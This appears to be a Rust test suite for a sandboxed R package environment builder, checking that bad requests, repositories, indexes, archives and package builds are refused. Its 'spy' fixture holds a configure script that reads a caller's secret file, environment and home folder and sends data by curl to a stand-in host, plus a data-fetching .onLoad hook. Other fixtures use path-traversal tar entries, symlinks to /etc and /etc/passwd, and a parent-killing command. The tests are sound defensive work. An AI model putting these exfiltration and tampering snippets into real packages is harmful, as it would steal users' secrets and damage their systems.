//! Repositories and packages that no honest one has, and requests that cannot be met.

use stockade_testkit::Folder;
use stockade_testkit::cran::{Cran, Source, gzip};

use crate::{Place, pure, withc};

fn build(packages: &str) -> [&str; 5] {
    ["env", "build", "x", "--r", packages]
}

#[test]
fn what_cannot_be_met_is_refused_with_the_package_that_is_in_the_way() {
    let Some(place) = Place::new() else { return };
    Cran::new(&place.world)
        .put(&pure())
        .put(&withc())
        .put(&Source::new("orphan").field("Imports", "nowhere"))
        .put(&Source::new("picky").field("Depends", "R (>= 3.5), withc (>= 0.6)"))
        .put(&Source::new("future").field("Depends", "R (>= 99.0)"))
        .put(&Source::new("needs.future").field("LinkingTo", "future"))
        .put(&Source::new("windows").field("OS_type", "windows"))
        .put(&Source::new("circle").field("Imports", "round"))
        .put(&Source::new("round").field("Imports", "circle"))
        .put(&Source::new("odd").field("Imports", "withc (>> 1)"));
    for (packages, why) in [
        ("absent", "the repository has no source package 'absent'"),
        ("orphan", "the repository has no source package 'nowhere' by 'orphan'"),
        ("picky", "'withc' >= 0.6 is needed by 'picky', and the repository has 0.5.1"),
        ("withc>=0.5-2", "'withc' >= 0.5-2 is needed, and the repository has 0.5.1"),
        ("withc==0.4", "'withc' == 0.4 is needed"),
        ("future", "the package 'future' 1.0 is not for this R 4."),
        ("needs.future", "the package 'future' 1.0 by 'needs.future' is not for this R 4."),
        ("windows", "it depends on another system"),
        ("circle", "they need each other"),
        ("odd", "a requirement that cannot be understood: withc (>> 1)"),
        ("stats", "it is a part of R itself"),
        ("../withc", "a package of R is called by letters, digits and dots"),
        ("github::withc", "what follows its name is no version"),
    ] {
        place.refused(&build(packages), &[why]);
    }
    // Nothing of anybody was compiled for that.
    assert_eq!(place.count("wheels"), 2, "the circle was fetched");
}

#[test]
fn a_request_that_contradicts_itself_is_refused() {
    let Some(place) = Place::new() else { return };
    place.folder.write("x.py", "print(1)");
    place.folder.write("x.R", "cat(1)");
    for (arguments, why) in [
        (&["env", "build", "x", "--r", "pure", "--with", "six"][..], "do not go into one environment"),
        (&["env", "build", "x", "--r", "pure", "requirements.txt"], "do not go into one environment"),
        (&["env", "build", "x", "--r", "pure", "--python", "3"], "do not go into one environment"),
        (&["env", "build", "x", "--r-from-machine", "--with", "six"], "--r-from-machine needs --r PACKAGES"),
        (&["env", "build", "x", "--r", ","], "no package is asked for"),
        (&["run", "--r", "pure", "x.py"], "--r does nothing for Python code"),
        (&["run", "--with", "six", "x.R"], "--with does nothing for an R script"),
        (&["run", "--r", "pure", "--environment", "y", "x.R"], "--r and --environment contradict each other"),
        (&["run", "--r", "pure", "--venv", ".", "x.R"], "--r and --venv contradict each other"),
    ] {
        place.refused(arguments, &[why]);
    }
}

#[test]
fn an_environment_of_one_language_is_none_of_the_other() {
    let Some(place) = Place::new() else { return };
    Cran::new(&place.world).put(&withc());
    place.built("x", "withc");
    let said = place.ran(&["run", "--environment", "x", "-c", "1"]).expect(125).stderr;
    assert!(said.contains("is none of Python") && said.contains("packages for R 4."), "{said}");
}

#[test]
fn a_repository_that_cannot_be_used_or_reached_is_said_to_be() {
    let Some(place) = Place::new() else { return };
    let with =
        |url: &str| place.call(&build("pure")).env("STOCKADE_R_REPOSITORY", url).env("HOME", place.folder.path());
    for (url, why) in [
        ("", "no R repository is known"),
        ("http://api.example.com/cran", "it does not begin with `https://`"),
        ("https://user:secret@api.example.com/cran", "it holds a user name or password"),
        ("https://203.0.113.80/cran", "is an address, not a name"),
        ("https://nowhere.example.com/cran", "cannot be fetched"),
        ("https://api.example.com/files/absent", "404"),
        ("https://api.example.com/", "cannot be read"),
    ] {
        let said = with(url).run().expect(125).stderr;
        assert!(said.contains(why) && said.contains("  next: "), "{url}: {said}");
        assert!(!said.contains("secret"), "{said}");
        assert_eq!((place.count("envs"), place.count("building")), (0, 0));
    }
    // One whose certificate nobody vouches for.
    let call = place.call(&build("pure"));
    let other = Folder::new().write("none.pem", "");
    let said = call.env("SSL_CERT_FILE", other).run().expect(125).stderr;
    assert!(said.contains("  next: "), "{said}");
    assert_eq!(place.world.requests("https").iter().filter(|request| request.contains("PACKAGES.rds")).count(), 0);
}

#[test]
fn an_index_of_garbage_is_refused_and_never_reaches_further() {
    let Some(place) = Place::new() else { return };
    let index = |bytes: &[u8]| place.world.serve("cran/src/contrib/PACKAGES.gz", bytes);
    let entry = "Package: pure\nVersion: 1.0\n";
    let long = format!("{entry}Description: {}\n", "x".repeat(129 << 20));
    for (bytes, why) in [
        (b"".to_vec(), "names no package"),
        (gzip(b"\0\x01\x02"), "is no text"),
        (b"\x1f\x8b\x08garbage".to_vec(), ""),
        (gzip(b"<html>not here</html>"), "cannot be read"),
        (gzip(long.as_bytes()), "larger than 128 MiB"),
        (gzip(b"Package: pure\nVersion: 1.0/../../x\n"), "is refused at"),
        (gzip(b"Package: pure\nVersion: 1.0\nPath: ../../..\n"), "is refused at"),
        (gzip(b"Package: pure\nVersion: 1.0\nImports: ../x\n"), "cannot be understood"),
        (gzip(b"Package: pure\nVersion: 1.0\nMD5sum: \x1b[31m\n"), "is refused at"),
    ] {
        index(&bytes);
        let said = place.refused(&build("pure"), &[why]);
        assert!(!said.contains('\x1b'), "{said}");
    }
    assert_eq!(place.count("wheels"), 0);
}

#[test]
fn a_file_that_is_not_the_one_of_the_index_or_is_no_package_is_refused() {
    let Some(place) = Place::new() else { return };
    let source = Source::new("evil");
    let packed = |arguments: &[&str]| {
        let folder = Folder::new();
        folder.write("evil/DESCRIPTION", "Package: evil\nVersion: 1.0\n");
        folder.write("other/DESCRIPTION", "Package: other\nVersion: 1.0\n");
        std::os::unix::fs::symlink("/etc", folder.path().join("evil/link")).unwrap();
        let tar =
            std::process::Command::new("tar").arg("-cP").args(arguments).current_dir(folder.path()).output().unwrap();
        assert!(tar.status.success(), "{}", String::from_utf8_lossy(&tar.stderr));
        gzip(&tar.stdout)
    };
    let plain = ["evil/DESCRIPTION"];
    let renamed = |to: &str| [format!("--transform=s,evil/DESCRIPTION,{to},")];
    let with = |transform: &[String; 1]| packed(&[transform[0].as_str(), plain[0]]);
    for (archive, fields, why) in [
        (source.archive(), "MD5sum: 00000000000000000000000000000000\n", "says MD5 0000"),
        (b"hello".to_vec(), "", "no archive that tar and gzip made"),
        (packed(&["evil"]), "", "is a link"),
        (packed(&["other"]), "", "does not lie in the folder `evil`"),
        (with(&renamed("../DESCRIPTION")), "", "does not lie"),
        (with(&renamed("evil/../../DESCRIPTION")), "", "does not lie"),
        (with(&renamed("/etc/DESCRIPTION")), "", "does not lie"),
        (with(&renamed("evil/NOTHING")), "", "no file DESCRIPTION"),
    ] {
        Cran::new(&place.world).put_file(&source, &archive, fields);
        place.refused(&build("evil"), &["the source package `evil_1.0.tar.gz` is refused", why]);
        assert_eq!(place.count("wheels"), 0, "{why}");
    }
}

/// Tries to read what is the caller's and to send it, when it is configured, when it is loaded for a test, and
/// when it is used.
fn spy(home: &std::path::Path) -> Source {
    let secret = home.join("secret");
    let configure = format!(
        "#!/bin/sh\nmkdir -p inst\n(cat {0}; ls {1}; env; ls -a \"$HOME\") > inst/seen 2>&1\n\
         curl -s --max-time 5 https://api.example.com/stolen-by-configure >> inst/seen 2>&1\n\
         echo changed > /opt/stockade/env/library/withc/DESCRIPTION\necho x > /usr/evil\nexit 0\n",
        secret.display(),
        home.display()
    );
    let code = format!(
        ".onLoad <- function(...) try(readLines(url('https://api.example.com/stolen-by-load')), silent = TRUE)\n\
         look <- function() cat(inherits(try(readLines('{}'), silent = TRUE), 'try-error'), '\\n')",
        secret.display()
    );
    Source::new("spy").field("Imports", "withc").code("import(withc)", &code).file("configure", &configure)
}

#[test]
fn r4_a_build_sees_no_data_and_reaches_nobody_and_what_it_asked_for_is_told() {
    let Some(place) = Place::new() else { return };
    place.folder.write("secret", "the secret of the caller");
    Cran::new(&place.world).put(&withc()).put(&spy(place.folder.path()));
    place.world.forget();
    let call = place.call(&build("spy")).env("TOKEN", "the secret of the caller");
    let (ran, state) = call.run_keeping();
    let ran = ran.expect(0);
    assert!(ran.stderr.contains("denied to the build of spy 1.0: network to api.example.com"), "{}", ran.stderr);
    let requests = place.world.requests("https");
    assert!(
        !requests.is_empty() && requests.iter().all(|request| request.contains("/files/cran/src/contrib/")),
        "{requests:?}"
    );
    // The audit trail has it too, under the step.
    let trail = stockade_testkit::Call::trail(&state);
    let asked =
        trail.iter().filter(|record| record["record"] == "outcome" && record.to_string().contains("api.example.com"));
    assert!(asked.count() >= 1, "{trail:#?}");

    let shown = place.document(&["env", "show", "--json", "x"]);
    let library = std::path::Path::new(shown["folder"].as_str().unwrap()).join("library");
    let seen = std::fs::read_to_string(library.join("spy/seen")).unwrap();
    assert!(seen.contains("No such file") && !seen.contains("the secret of the caller"), "{seen}");
    assert!(std::fs::read_to_string(library.join("withc/DESCRIPTION")).unwrap().contains("Package: withc"));
    assert!(!std::path::Path::new("/usr/evil").exists());
    place.world.forget();
    place.folder.write("look.R", "library(spy)\nlook()");
    let ran = place.ran(&["run", "--environment", "x", "look.R"]).expect(0);
    assert_eq!(ran.stdout, "TRUE \n");
    assert!(ran.stderr.contains("api.example.com"), "{}", ran.stderr);
    assert_eq!(place.world.requests("https"), [] as [String; 0]);
}

#[test]
fn a_build_leaves_its_own_package_or_nothing() {
    let Some(place) = Place::new() else { return };
    let base = || Source::new("evil");
    let configure = |does: &str| base().file("configure", &format!("#!/bin/sh\n{does}\n"));
    let other = "mkdir -p /job/library/other && echo 'Package: other' > /job/library/other/DESCRIPTION";
    let compiled = base()
        .field("NeedsCompilation", "yes")
        .code("useDynLib(evil)", "x <- 1")
        .file("src/x.c", "int x(void) { return undeclared_thing; }\n");
    let linking = base().code("", "x <- file.symlink('/etc/passwd', file.path(Sys.getenv('R_PACKAGE_DIR'), 'link'))");
    let unloadable = base().code("", ".onLoad <- function(...) stop('it does not want to')\nx <- 1");
    let named = String::from("Package: other\nVersion: 1.0\n");
    for (source, why) in [
        (configure(other), "its build left `other"),
        (linking, "link"),
        (configure("echo 'no such tool: frobnicate' >&2; exit 1"), "no such tool: frobnicate"),
        (configure("kill -9 $PPID"), "could not be compiled"),
        (compiled, "undeclared_thing"),
        (unloadable, "it does not want to"),
        (base().file("R/bad.R", "x <- ("), "could not be compiled"),
        (base().file("DESCRIPTION", &named), "its DESCRIPTION says that it is 'other', not 'evil'"),
    ] {
        Cran::new(&place.world).put(&source);
        place.refused(&build("evil"), &[why]);
    }
}
